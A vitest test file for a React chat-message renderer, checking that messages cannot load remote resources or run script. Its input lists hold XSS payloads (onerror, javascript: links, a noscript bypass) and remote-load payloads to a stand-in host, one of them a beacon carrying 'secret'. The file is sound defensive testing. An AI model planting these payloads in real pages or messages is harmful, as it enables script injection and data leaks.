import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Prose } from './Prose'

const nobody = () => null
const html = (text: string, growing = false) =>
  renderToStaticMarkup(<Prose text={text} names={nobody} growing={growing} />)

const remote = [
  '![a](https://evil.example/a.png?q=secret)',
  '![a][r]\n\n[r]: https://evil.example/a.png',
  '<img src="https://evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 2x">',
  '<picture><source srcset="https://evil.example/a.png"></picture>',
  '<video src="https://evil.example/a.mp4" autoplay></video>',
  '<style>@import url(https://evil.example/a.css)</style>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<iframe src="https://evil.example"></iframe>',
  '![a](//evil.example/a.png)',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
]

describe('D10: nothing loads by itself', () => {
  it.each(remote)('%s', text => {
    for (const growing of [false, true]) {
      expect(html(text, growing)).not.toMatch(/<(img|picture|source|video|style|link|iframe|image|object|embed)\b/i)
      expect(html(text, growing)).not.toMatch(/<[^>]*\s(style|srcset|src|background)=/i)
    }
  })
})

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:x)',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '`<script>`',
  '[x]: javascript:alert(1)\n\n[x]',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

describe('D11: no script comes of a message', () => {
  it.each(scripts)('%s', text => {
    const drawn = html(text)
    expect(drawn).not.toMatch(/<(script|svg(?! xmlns)|math|details|noscript|img)\b/i)
    expect(drawn).not.toMatch(/<[^>]*\son\w+=/i)
    expect(drawn).not.toMatch(/href="(javascript|data|vbscript):/i)
  })
})

describe('Prose', () => {
  it('shows HTML as it was written', () => {
    expect(html('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>')
  })

  it('names a mention, and marks the reader', () => {
    const names = (handle: string) =>
      ({ scribe: { name: 'Scribe', isMe: false }, alice: { name: 'Alice', isMe: true } })[handle] ?? null
    const drawn = renderToStaticMarkup(<Prose text="@scribe and @alice, not me@scribe.org or @nobody" names={names} />)
    expect(drawn).toContain('<span class="at" title="@scribe">@Scribe</span>')
    expect(drawn).toContain('<span class="at me" title="@alice">@Alice</span>')
    expect(drawn).toContain('@nobody')
    expect(drawn.match(/class="at/g)).toHaveLength(2)
  })

  it('shows the host that a link leads to', () => {
    const drawn = html('[your bank](https://evil.example/login)')
    expect(drawn).toContain('evil.example</span>')
    expect(drawn).toContain('rel="noopener noreferrer nofollow"')
  })
})
